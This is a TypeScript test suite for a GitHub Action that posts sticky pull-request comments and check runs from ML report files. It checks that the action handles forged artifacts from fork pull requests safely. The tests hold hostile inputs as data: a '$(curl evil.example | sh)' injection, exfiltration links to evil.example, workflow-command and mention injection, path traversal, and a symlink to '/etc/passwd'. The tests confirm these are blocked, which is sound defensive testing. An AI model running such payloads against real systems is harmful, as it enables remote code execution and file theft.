import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Finding, Report } from '@rastro/report';
import {
  type ActionRun,
  type GitHub,
  runAction,
  startGitHub,
  type TemporaryRepository,
  temporaryRepository,
} from '@rastro/testkit';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { zip } from '../packages/host/test/zip.ts';
import { forgeArtifact } from './forged-artifact.ts';
import { TOOLS } from './place.ts';

/** The bundled comment action, in processes of their own, against a GitHub on loopback. */
let github: GitHub;
let repository: TemporaryRepository;

beforeEach(async () => {
  github = await startGitHub({ repository: 'acme/churn' });
  repository = await temporaryRepository({ files: { 'rastro.yaml': '' } });
});
afterEach(async () => {
  expect(github.violations).toEqual([]);
  await github.stop();
  await repository[Symbol.asyncDispose]();
});

const HEAD = '1111111111111111111111111111111111111111';
const MARKER = '<!-- rastro:rastro -->';

const writeReports = (...reports: Report[]) =>
  repository.write(
    Object.fromEntries(
      reports.map((report, index) => [
        `.rastro/reports/${report.verb}-${index}.json`,
        JSON.stringify(report),
      ]),
    ),
  );
const comment = (more: Partial<ActionRun> = {}) =>
  runAction({ verb: 'comment', directory: repository.directory, github, ...more });
const commentOn = async (number: number, more: Partial<ActionRun> = {}) =>
  comment({ eventName: 'pull_request', event: await github.pullRequestEvent(number), ...more });
const ours = async () =>
  (await github.state()).comments.filter(({ author }) => author === 'github-actions[bot]');

describe('one sticky comment', () => {
  test('stays one among 250 of others over 20 runs at once and three more after them', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    for (let at = 0; at < 250; at++) {
      const body = at % 50 === 0 ? `${MARKER}\nAll gates pass!` : `looks good ${at}`;
      await github.ask(
        at % 2 === 0 ? 'mallory' : 'grace',
        'POST',
        `/repos/acme/churn/issues/${pullRequest}/comments`,
        { body },
      );
    }
    const others = (await github.state()).comments;
    await writeReports(aReport());

    const runs = await Promise.all(Array.from({ length: 20 }, () => commentOn(pullRequest)));
    expect(runs.map(({ exitCode, stdout }) => exitCode === 0 || stdout)).toEqual(Array(20).fill(true));
    const [first, ...twins] = await ours();
    expect(twins).toEqual([]);
    expect(first!.body.startsWith(`${MARKER}\n`)).toBe(true);

    // Each run that keeps an artifact has a link of its own to tell.
    const inputs = { artifact: 'false' };
    expect((await commentOn(pullRequest, { inputs })).outputs.status).toBe('updated');
    expect((await commentOn(pullRequest, { inputs })).outputs.status).toBe('unchanged');
    await writeReports(
      aReport({ verdict: { status: 'fail', sentence: 'delay regressed: roc_auc 0.74 → 0.70.' } }),
    );
    expect((await commentOn(pullRequest)).outputs).toMatchObject({
      status: 'updated',
      verdict: 'fail',
    });
    const after = await ours();
    expect(after).toHaveLength(1);
    expect(after[0]!.id).toBe(first!.id);
    expect(after[0]!.body).toContain('1 earlier verdict');
    expect((await github.state()).comments.filter(({ author }) => author !== 'github-actions[bot]')).toEqual(
      others,
    );
  }, 300_000);

  test('of several workflows each keeps its own, by key', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    await writeReports(aReport());
    const keys = ['daily', 'nightly', 'daily', 'nightly'];
    const runs = await Promise.all(keys.map((key) => commentOn(pullRequest, { inputs: { key } })));
    expect(runs.map(({ exitCode }) => exitCode)).toEqual([0, 0, 0, 0]);
    expect((await ours()).map(({ body }) => body.split('\n')[0]).sort()).toEqual([
      '<!-- rastro:daily -->',
      '<!-- rastro:nightly -->',
    ]);
  });

  test('links an artifact with the page and the reports, and tells later steps where they are', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    await writeReports(aReport());
    const { outputs } = await commentOn(pullRequest);
    const [only] = await ours();
    expect(outputs).toMatchObject({ verdict: 'pass', status: 'created' });
    expect(outputs['comment-url']).toContain(`/${pullRequest}#issuecomment-${only!.id}`);
    expect(await readFile(join(repository.directory, outputs['report-path']!), 'utf8')).toMatch(
      /^<!doctype html>/,
    );
    const [artifact] = (await github.state()).artifacts;
    expect(artifact).toMatchObject({ name: 'rastro-rastro' });
    expect(outputs['artifact-url']).toMatch(new RegExp(`/actions/runs/1000001/artifacts/${artifact!.id}$`));
    expect(only!.body).toContain(`[Open the full report](${outputs['artifact-url']})`);
    expect(only!.body).toContain(`git fetch origin pull/${pullRequest}/head`);
    // Another attempt of the run puts its own in place.
    expect((await commentOn(pullRequest)).exitCode).toBe(0);
    expect((await github.state()).artifacts.map(({ name }) => name)).toEqual(['rastro-rastro']);
  });

  test('a slow job of an older commit goes into the history, and the newer verdict stays', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    const event = await github.pullRequestEvent(pullRequest);
    const at = (sha: string) => {
      const { pull_request: about } = event as { pull_request: { head: object } };
      return { ...event, pull_request: { ...about, head: { ...about.head, sha } } };
    };
    const judged = async (runId: number, sentence: string, more: object) => {
      await writeReports(aReport({ verdict: { status: 'pass', sentence } }));
      const { outputs } = await commentOn(pullRequest, { runId, inputs: { artifact: 'false' }, ...more });
      return outputs.status;
    };
    const old = { event: at('a'.repeat(40)) };
    const shown = async () =>
      (await ours()).map(({ body }) => body.replace(/^[\s\S]*?-->\n[\s\S]*?-->\n/, ''));

    // Behind the head as well, but nothing later is there.
    expect(await judged(1, 'first', { event: at('b'.repeat(40)) })).toBe('created');
    expect(await judged(2, 'second', old)).toBe('updated');
    expect(await judged(3, 'third', {})).toBe('updated');
    expect(await judged(2, 'late', old)).toBe('outdated');
    const [body] = await shown();
    expect(await shown()).toHaveLength(1);
    expect(body).toMatch(/third[\s\S]*3 earlier verdicts[\s\S]*late[\s\S]*second[\s\S]*first/);
    expect(body!.indexOf('late')).toBeGreaterThan(body!.indexOf('<details>\n<summary>3 earlier'));
    // Told again it is known already, and the head's own job puts its verdict in place as ever.
    expect(await judged(2, 'late', old)).toBe('outdated');
    expect(await shown()).toEqual([body]);
    expect(await judged(3, 'third again', {})).toBe('updated');
    expect((await shown())[0]).toMatch(/third again[\s\S]*4 earlier verdicts/);
  });

  test('says what is wrong when there is no report, no pull request, or no report in the file', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    const nothing = await commentOn(pullRequest);
    expect(nothing).toMatchObject({ exitCode: 2 });
    expect(nothing.stdout).toContain('no report matches');
    await writeReports(aReport());
    expect((await comment()).stdout).toContain('this run is not about a pull request');
    await repository.write({ '.rastro/reports/broken.json': '{"schema":"rastro/report/v1"}' });
    expect(await commentOn(pullRequest)).toMatchObject({ exitCode: 2 });
    expect(await ours()).toEqual([]);
  });
});

describe('Markdown of a report with hostile texts', () => {
  test('writes no mention, link, marker or second cell, and no second output', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    const hostile = `a\\|b](http://x) @org/team <!--rastro--> <!-- rastro:nightly -->\n::set-output name=status::owned`;
    await writeReports(
      aReport({
        subject: hostile,
        verdict: { status: 'pass', sentence: hostile },
        sections: [
          {
            id: 'metrics',
            title: hostile,
            importance: 95,
            blocks: [{ kind: 'table', columns: [{ title: hostile }], rows: [[hostile]] }],
          },
        ],
      }),
    );
    const { outputs, commands } = await commentOn(pullRequest);
    expect(outputs.status).toBe('created');
    expect(commands.filter(({ name }) => name === 'set-output')).toEqual([]);
    const [only] = await ours();
    expect(only!.body).not.toMatch(/@org|\]\(http:\/\/x|<!-- rastro:nightly|<!--rastro/);
    expect(only!.body.match(/<!--/g)).toHaveLength(2);
  });
});

describe('a check run', () => {
  test('carries 120 findings beside their lines, in batches of 50', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    await writeReports(
      aReport({
        verb: 'validate',
        verdict: { status: 'fail', sentence: 'train breaks its contract.' },
        findings: findings(120),
      }),
    );
    const { outputs, exitCode } = await commentOn(pullRequest, { inputs: { check: 'true' } });
    expect(exitCode).toBe(0);
    const [run, ...others] = (await github.state()).checkRuns;
    expect(others).toEqual([]);
    expect(run).toMatchObject({ conclusion: 'failure', name: 'rastro' });
    expect(run!.annotations).toHaveLength(120);
    expect(outputs['check-url']).not.toBe('');
    const writes = github.requests.filter(
      ({ method, path }) => method !== 'GET' && path.includes('/check-runs'),
    );
    expect(writes).toHaveLength(3);
  });

  test('needs no pull request: a push has the check run alone', async () => {
    await repository.commit('Begin', { 'README.md': 'x' });
    await writeReports(aReport({ verb: 'validate', findings: findings(1) }));
    const { outputs, exitCode, stdout } = await comment({
      eventName: 'push',
      inputs: { check: 'true' },
    });
    expect(exitCode, stdout).toBe(0);
    expect(outputs).toMatchObject({ status: 'none', 'comment-url': '', verdict: 'pass' });
    const [run] = (await github.state()).checkRuns;
    expect(run).toMatchObject({ name: 'rastro', sha: await repository.git('rev-parse', 'HEAD') });
    expect(outputs['check-url']).not.toBe('');
    expect(await ours()).toEqual([]);
    const elsewhere = await comment({ inputs: { check: 'true', forge: 'file' } });
    expect(elsewhere.exitCode).toBe(2);
    expect(elsewhere.annotations).toMatchObject([{ title: 'check-elsewhere' }]);
  });

  test('names files from the root of the repository, whichever folder validate and comment worked in', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Rows', head: 'rows' });
    await repository.write({
      'team/churn/rastro.yaml':
        'version: 1\ndata:\n  rows: { path: data/rows.csv, contract: contracts/rows.yaml }\n',
      'team/churn/contracts/rows.yaml': 'name: rows\nfields:\n  - { name: x, type: integer }\n',
      'team/churn/data/rows.csv': 'x\n1\nten\n',
    });
    const inputs = { 'working-directory': 'team/churn' };
    const env = { RUNNER_TOOL_CACHE: TOOLS };
    const validated = await runAction({
      verb: 'validate',
      directory: repository.directory,
      github,
      inputs,
      env,
    });
    expect(validated.exitCode, validated.stdout).toBe(1);
    const reports = 'team/churn/.rastro/reports/*.json';
    for (const where of [inputs, { reports }]) {
      const { exitCode, stdout } = await commentOn(pullRequest, {
        inputs: { ...where, check: 'true', key: 'reports' in where ? 'root' : 'folder' },
      });
      expect(exitCode, stdout).toBe(0);
    }
    const runs = (await github.state()).checkRuns;
    expect(runs).toHaveLength(2);
    for (const { annotations } of runs)
      expect(annotations).toMatchObject([{ path: 'team/churn/data/rows.csv', start_line: 3 }]);
  });

  test('says what fits into its summary, which GitHub counts in bytes', async () => {
    const pullRequest = await github.openPullRequest({ title: 'Retrain', head: 'retrain' });
    const words = '数据✅'.repeat(60);
    await writeReports(
      aReport({
        verb: 'validate',
        verdict: { status: 'fail', sentence: `${'a'.repeat(198)}😀 breaks its contract` },
        findings: findings(2000).map((finding) => ({ ...finding, title: words, message: words })),
      }),
    );
    const { exitCode, stdout } = await commentOn(pullRequest, { inputs: { check: 'true' } });
    expect(exitCode, stdout).toBe(0);
    const [run] = (await github.state()).checkRuns;
    const size = Buffer.byteLength(run!.summary);
    expect(size).toBeGreaterThan(50_000);
    expect(size).toBeLessThanOrEqual(65_535);
    expect(run!.title.isWellFormed()).toBe(true);
    expect(run!.annotations).toHaveLength(1000);
  });
});

describe('an artifact of a fork’s run is untrusted', () => {
  let pullRequest: number;
  beforeEach(async () => {
    pullRequest = await github.openPullRequest({
      title: 'From a fork',
      head: 'retrain',
      author: 'mallory',
      fromFork: true,
      headSha: HEAD,
    });
  });

  const phaseOne = (more: Partial<ActionRun> = {}) =>
    commentOn(pullRequest, { github: { ...github, token: github.readOnlyToken }, runId: 7, ...more });
  const followed = (run: object = {}) => ({
    action: 'completed',
    workflow_run: {
      id: 7,
      event: 'pull_request',
      head_sha: HEAD,
      head_branch: 'retrain',
      head_repository: { owner: { login: 'mallory' } },
      // Empty for forks, on GitHub too.
      pull_requests: [],
      ...run,
    },
  });
  const phaseTwo = (run: object = {}) =>
    comment({ eventName: 'workflow_run', event: followed(run), runId: 8 });

  test('phase one keeps the reports and does not fail; phase two comments', async () => {
    await writeReports(aReport());
    const one = await phaseOne();
    expect(one).toMatchObject({ exitCode: 0, outputs: { status: 'kept', 'comment-url': '' } });
    expect(one.stdout).toContain('The reports wait in the artifact rastro-rastro');
    expect(await ours()).toEqual([]);

    const two = await phaseTwo();
    expect(two).toMatchObject({ exitCode: 0, outputs: { status: 'created' } });
    const [only] = await ours();
    expect(only).toMatchObject({ issue: pullRequest });
    expect(only!.body).toContain('the numbers are what that run reported');
    expect((await phaseTwo()).outputs.status).toBe('updated');
    expect(await ours()).toHaveLength(1);
  });

  test('a token that can only read fails the step when the pull request is not from a fork', async () => {
    const own = await github.openPullRequest({ title: 'Own', head: 'own' });
    await writeReports(aReport());
    const run = await commentOn(own, { github: { ...github, token: github.readOnlyToken } });
    expect(run).toMatchObject({ exitCode: 3 });
    expect(run.stdout).toContain('pull-requests: write');
  });

  test('an artifact cannot choose the pull request: not by a number in it, nor by the commit of another', async () => {
    const victim = await github.openPullRequest({
      title: 'Victim',
      head: 'victim',
      author: 'grace',
      fromFork: true,
      headSha: HEAD,
    });
    await leave(
      [{ name: 'reports/0000.json', content: JSON.stringify({ ...aReport(), pullRequest: victim }) }],
      7,
    );
    const refused = await phaseTwo();
    expect(refused).toMatchObject({ exitCode: 2 });
    expect(refused.stdout).toContain('pullRequest');

    await leave([{ name: 'reports/0000.json', content: JSON.stringify(aReport()) }], 9);
    expect((await phaseTwo({ id: 9 })).outputs.status).toBe('created');
    expect((await ours()).map(({ issue }) => issue)).toEqual([pullRequest]);
  });

  test('a run of a branch that no open pull request has as its head writes nothing', async () => {
    await leave([{ name: 'reports/0000.json', content: JSON.stringify(aReport()) }], 7);
    for (const run of [
      { head_sha: HEAD.replaceAll('1', '2') },
      { head_branch: 'other' },
      { head_repository: { owner: { login: 'grace' } } },
    ]) {
      expect(await phaseTwo(run)).toMatchObject({ exitCode: 0, outputs: { status: 'outdated' } });
    }
    expect(await ours()).toEqual([]);
  });

  test('texts of an artifact cannot ping, link, run commands or pose as another comment', async () => {
    const hostile = aReport({
      subject: '@acme/everyone',
      verdict: { status: 'pass', sentence: `${MARKER} ping @grace see https://evil.example and #1` },
      sections: [
        {
          id: 'metrics',
          title: '<img src=x>',
          importance: 95,
          blocks: [
            { kind: 'paragraph', text: [{ link: 'the log', url: 'https://evil.example/steal' }] },
            { kind: 'code', language: 'mermaid', text: 'click A "https://evil.example"' },
          ],
        },
      ],
      arguments: ['--model', '$(curl evil.example | sh)'],
    });
    await leave([{ name: 'reports/0000.json', content: JSON.stringify(hostile) }], 7);
    const { outputs } = await phaseTwo();
    expect(outputs.status).toBe('created');
    const [{ body } = { body: '' }] = await ours();
    expect(body).not.toMatch(
      /@(acme|grace)|\]\(https:\/\/evil|[^\\]<img|```mermaid|curl evil|https:\/\/evil.example and/,
    );
    expect(body.split(MARKER)).toHaveLength(2);
    expect(body).not.toMatch(/#1\b/);
    const page = await readFile(join(repository.directory, outputs['report-path']!), 'utf8');
    expect(page).toContain('the numbers are what that run reported');
    expect(page).toContain('the log');
    expect(page).not.toMatch(/href="http|evil\.example\/steal|curl evil/);
  });

  test.each([
    ['a path that leads outside', [{ name: '../../outside.json', content: '{}' }]],
    ['a file that is no report', [{ name: 'reports/.git/hooks/x', content: '{}' }]],
    ['a link', [{ name: 'reports/0000.json', content: '/etc/passwd', mode: 0o120777 }]],
    ['a report of another schema', [{ name: 'reports/0000.json', content: '{"schema":"rastro/report/v2"}' }]],
    ['a report that nests too deep', [{ name: 'reports/0000.json', content: '['.repeat(100_000) }]],
  ])('an artifact with %s is refused, and nothing is written', async (_, entries) => {
    await leave(entries, 7);
    const run = await phaseTwo();
    expect(run).toMatchObject({ exitCode: 2 });
    expect(run.stdout).toContain('::error');
    expect(await ours()).toEqual([]);
    expect(existsSync(join(repository.directory, '..', 'outside.json'))).toBe(false);
  });

  const leave = (entries: Parameters<typeof zip>[0], run: number) =>
    forgeArtifact(github, { run, name: 'rastro-rastro', bytes: zip(entries) });
});

function aReport(more: Partial<Report> = {}): Report {
  return {
    schema: 'rastro/report/v1',
    verb: 'compare',
    subject: 'delay',
    verdict: { status: 'pass', sentence: 'delay improved: roc_auc 0.702 → 0.738 (+0.036).' },
    sections: [],
    findings: [],
    arguments: ['--model', 'delay'],
    ...more,
  };
}

function findings(count: number): Finding[] {
  return Array.from({ length: count }, (_, index) => ({
    severity: 'error',
    title: 'age.range',
    message: `row ${index + 1}: expected at least 0`,
    file: 'data/train.csv',
    line: index + 2,
  }));
}
